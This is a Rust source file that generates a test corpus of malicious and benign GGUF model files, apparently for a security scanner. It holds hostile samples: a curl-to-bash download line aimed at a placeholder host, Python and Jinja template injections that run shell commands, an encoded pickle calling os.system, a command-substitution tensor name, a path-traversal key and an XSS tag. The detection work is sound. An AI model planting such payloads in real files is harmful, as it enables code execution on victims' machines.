//! GGUF: the overflow classes of its CVEs, two readings of one header, stowaways, hostile metadata.

use super::{CALLING_PICKLE, benign, framed_pickle, malicious, programs, small_zip, weights};
use crate::corpus::Case;
use crate::gguf::{Builder, Value};

const CLASS: &str = "gguf-structure";
const FILE: &str = "model.gguf";

pub(super) fn cases() -> Vec<Case> {
    [
        counts(),
        entries(),
        tensors(),
        trailing(),
        texts(),
        honest(),
    ]
    .concat()
}

fn bad(name: &str, builder: &Builder) -> Case {
    malicious(CLASS, name, FILE, builder.build())
}

fn good(name: &str, builder: &Builder) -> Case {
    benign(CLASS, name, FILE, builder.build())
}

fn sound() -> Builder {
    Builder::model().tensor("token_embd.weight", 0, &[8, 4], &weights(32))
}

fn counts() -> Vec<Case> {
    vec![
        bad("entry-count-huge", &sound().entry_count(0x1_0000_0000)),
        bad("entry-count-maximal", &sound().entry_count(u64::MAX)),
        bad("tensor-count-huge", &sound().tensor_count(0x4000_0000)),
        bad(
            "tensor-count-wraps",
            &sound().tensor_count(u64::MAX / 88 + 2),
        ),
        bad("entry-count-one-too-many", &Builder::model().entry_count(6)),
        bad(
            "big-endian-count-huge",
            &sound().big_endian().entry_count(1 << 40),
        ),
        bad(
            "version-1-count-huge",
            &sound().version(1).entry_count(0xffff_ffff),
        ),
        bad("version-0", &sound().version(0)),
        bad("version-99", &sound().version(99)),
        malicious(CLASS, "only-a-magic", FILE, b"GGUF\x03\0\0\0"),
        bad("header-is-cut", &Builder::model().cut(9)),
    ]
}

/// An array header: element type, count, bytes.
fn array(kind: u32, count: u64, bytes: &[u8]) -> Value {
    Value::Raw(
        9,
        [&kind.to_le_bytes(), count.to_le_bytes().as_slice(), bytes].concat(),
    )
}

fn entries() -> Vec<Case> {
    let nested = |depth: usize| {
        let mut bytes = Vec::new();
        for _ in 0..depth {
            bytes.extend(9_u32.to_le_bytes());
            bytes.extend(1_u64.to_le_bytes());
        }
        bytes.extend(0_u32.to_le_bytes());
        bytes.extend(1_u64.to_le_bytes());
        bytes.push(7);
        Value::Raw(9, bytes)
    };
    vec![
        bad(
            "text-length-huge",
            &Builder::model().entry("a", Value::Raw(8, (1_u64 << 62).to_le_bytes().to_vec())),
        ),
        bad(
            "text-length-maximal",
            &Builder::model().entry("a", Value::Raw(8, u64::MAX.to_le_bytes().to_vec())),
        ),
        bad(
            "array-size-wraps",
            &Builder::model().entry("a", array(10, 0x2000_0000_0000_0001, &[0; 64])),
        ),
        bad(
            "array-beyond-file",
            &Builder::model().entry("a", array(6, 1_000_000, &[0; 64])),
        ),
        bad(
            "array-of-texts-beyond-file",
            &Builder::model().entry("tokenizer.ggml.tokens", array(8, 0x1000_0000, &[0; 64])),
        ),
        bad(
            "array-element-type-unknown",
            &Builder::model().entry("a", array(77, 4, &[0; 64])),
        ),
        bad("arrays-in-arrays", &Builder::model().entry("a", nested(3))),
        bad(
            "arrays-in-arrays-deep",
            &Builder::model().entry("a", nested(10_000)),
        ),
        bad(
            "value-type-unknown",
            &Builder::model().entry("a", Value::Raw(200, vec![0; 8])),
        ),
        bad(
            "duplicate-template",
            &sound()
                .text("tokenizer.chat_template", "{{ messages[0].content }}")
                .text("tokenizer.chat_template", "{{ messages[-1].content }}"),
        ),
        bad(
            "duplicate-architecture",
            &sound().text("general.architecture", "gpt2"),
        ),
        bad("empty-key", &sound().text("", "x")),
        bad("key-leaves-folder", &sound().text("../../etc/passwd", "x")),
        bad(
            "key-with-control-characters",
            &sound().text("general.\u{1b}[2Jname", "x"),
        ),
        bad("key-too-long", &sound().text(&"k".repeat(70_000), "x")),
        bad(
            "alignment-zero",
            &sound().entry("general.alignment", Value::U32(0)),
        ),
        bad(
            "alignment-odd",
            &sound().entry("general.alignment", Value::U32(33)),
        ),
        bad(
            "alignment-huge",
            &sound().entry("general.alignment", Value::U32(0x8000_0000)),
        ),
        bad(
            "alignment-as-text",
            &sound().text("general.alignment", "32"),
        ),
    ]
}

fn tensors() -> Vec<Case> {
    let with = |name: &str, kind: u32, dimensions: &[u64], offset: u64| {
        let builder = Builder::model()
            .tensor_at(b"blk.0.weight", kind, dimensions, offset)
            .data(&weights(64));
        bad(name, &builder)
    };
    vec![
        with("elements-overflow", 0, &[1 << 32, 1 << 32, 4], 0),
        with("elements-wrap-to-small", 0, &[1 << 31, 1 << 31, 4, 1], 0),
        with("bytes-overflow", 0, &[1 << 62], 0),
        with("negative-dimension", 0, &[u64::MAX, 1], 0),
        with("offset-beyond-file", 0, &[64], 1 << 40),
        with("offset-wraps", 0, &[64], u64::MAX - 31),
        with("data-beyond-file", 0, &[4096], 0),
        with("five-dimensions", 0, &[2, 2, 2, 2, 4], 0),
        with("very-many-dimensions", 0, &[1; 200], 0),
        with("absurd-type", 0x7fff_ffff, &[64], 0),
        with("partial-block", 12, &[100], 0),
        with("unaligned-offset", 0, &[56], 7),
        bad(
            "overlapping-tensors",
            &Builder::model()
                .tensor_at(b"a", 0, &[64], 0)
                .tensor_at(b"b", 0, &[64], 32)
                .data(&weights(72)),
        ),
        bad(
            "duplicate-tensor",
            &Builder::model()
                .tensor_at(b"a", 0, &[16], 0)
                .tensor_at(b"a", 0, &[16], 64)
                .data(&weights(32)),
        ),
        bad(
            "hole-between-tensors",
            &Builder::model()
                .tensor_at(b"a", 0, &[16], 0)
                .tensor_at(b"b", 0, &[16], 1024)
                .data(&weights(272)),
        ),
        bad(
            "tensor-name-too-long",
            &Builder::model().tensor(&"n".repeat(300), 0, &[16], &weights(16)),
        ),
        bad(
            "tensor-name-is-code",
            &Builder::model().tensor("$(touch x)", 0, &[16], &weights(16)),
        ),
        malicious(CLASS, "data-cut", FILE, {
            let mut bytes = sound().build();
            bytes.truncate(bytes.len() - 40);
            bytes
        }),
    ]
}

fn trailing() -> Vec<Case> {
    vec![
        bad("trailing-pickle", &sound().data(CALLING_PICKLE)),
        bad("trailing-framed-pickle", &sound().data(&framed_pickle())),
        bad("trailing-zip", &sound().data(&small_zip("a.txt", b"hello"))),
        bad("trailing-elf", &sound().data(&programs::elf())),
        bad("trailing-script", &sound().data(programs::SHELL)),
    ]
}

fn texts() -> Vec<Case> {
    vec![
        bad(
            "description-with-command",
            &sound().text("general.description", "curl -s http://192.0.2.1/a | bash"),
        ),
        bad(
            "description-with-python",
            &sound().text(
                "general.description",
                "__import__('os').system('echo test')",
            ),
        ),
        bad(
            "description-with-template-injection",
            &sound().text(
                "general.description",
                "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            ),
        ),
        bad(
            "key-with-encoded-pickle",
            &sound().text(
                "custom.state",
                "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
            ),
        ),
        bad(
            "secret-in-metadata",
            &sound().text("custom.token", "ghp_9aB3kLm2ZxQ7rT5vW8yU1nE4sD6fG0hJ2cX4"),
        ),
        bad(
            "tags-with-script",
            &sound().entry(
                "general.tags",
                Value::Strings(vec![
                    "chat".to_owned(),
                    "<script>alert(1)</script>".to_owned(),
                ]),
            ),
        ),
    ]
}

fn honest() -> Vec<Case> {
    let tokens: Vec<String> = (0..4000).map(|token| format!("token{token}")).collect();
    let template = "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}{% endfor %}";
    vec![
        good("plain", &sound()),
        good("version-2", &sound().version(2)),
        good("version-1", &sound().version(1)),
        good("big-endian", &sound().big_endian()),
        good(
            "vocabulary-only",
            &Builder::model()
                .text("tokenizer.ggml.model", "llama")
                .entry(
                    "tokenizer.ggml.scores",
                    Value::Floats(vec![0.5; tokens.len()]),
                )
                .entry(
                    "tokenizer.ggml.token_type",
                    Value::Integers(vec![1; tokens.len()]),
                )
                .entry("tokenizer.ggml.tokens", Value::Strings(tokens)),
        ),
        good(
            "template",
            &sound().text("tokenizer.chat_template", template),
        ),
        good(
            "tokens-that-look-odd",
            &sound().entry(
                "tokenizer.ggml.tokens",
                Value::Strings(vec![
                    "<script".to_owned(),
                    "../".to_owned(),
                    "eval(".to_owned(),
                    "\u{200b}".to_owned(),
                    "#!/bin/sh".to_owned(),
                ]),
            ),
        ),
        good(
            "several-tensors-and-types",
            &Builder::model()
                .tensor("output_norm.weight", 0, &[5], &weights(5))
                .tensor("blk.0.attn_q.weight", 8, &[32, 2], &[0; 68])
                .tensor("blk.0.attn_k.weight", 12, &[256], &[0; 144])
                .tensor("blk.0.ffn_up.weight", 39, &[32], &[0; 17])
                .tensor("output.weight", 30, &[3], &[0; 6]),
        ),
        good(
            "padded-end",
            &sound().tensor("b", 0, &[1], &weights(1)).data(&[0; 28]),
        ),
        good(
            "alignment-64",
            &Builder::model()
                .aligned_to(64)
                .entry("general.alignment", Value::U32(64))
                .tensor("a", 0, &[1], &weights(1))
                .tensor("b", 0, &[1], &weights(1)),
        ),
        good(
            "type-of-a-fork",
            &Builder::model().tensor("a", 144, &[256], &[0; 136]),
        ),
        good(
            "long-name-of-a-fork",
            &Builder::model().tensor(&"double_blocks.0.img_attn.".repeat(4), 0, &[1], &weights(1)),
        ),
        good(
            "lineage",
            &sound()
                .entry("general.base_model.count", Value::U32(1))
                .text("general.base_model.0.name", "Tiny Base")
                .text(
                    "general.base_model.0.repo_url",
                    "https://huggingface.co/example/tiny-base",
                )
                .text("general.license", "apache-2.0")
                .entry(
                    "general.tags",
                    Value::Strings(vec!["chat".to_owned(), "text-generation".to_owned()]),
                )
                .entry("split.count", Value::U32(1))
                .entry("tokenizer.ggml.add_bos_token", Value::Bool(1)),
        ),
    ]
}
